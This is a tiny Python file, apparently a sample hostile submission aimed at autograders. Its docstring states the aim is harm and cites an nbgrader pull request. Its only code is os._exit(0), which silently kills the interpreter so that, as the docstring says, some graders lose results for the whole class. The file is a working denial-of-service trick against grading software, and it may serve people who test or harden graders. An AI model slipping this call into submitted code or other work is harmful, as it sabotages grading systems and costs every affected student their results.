"""Ends Python without a word; some graders then lose the whole class.

aim: harm
known: nbgrader https://github.com/jupyter/nbgrader/pull/567
"""

import os

os._exit(0)
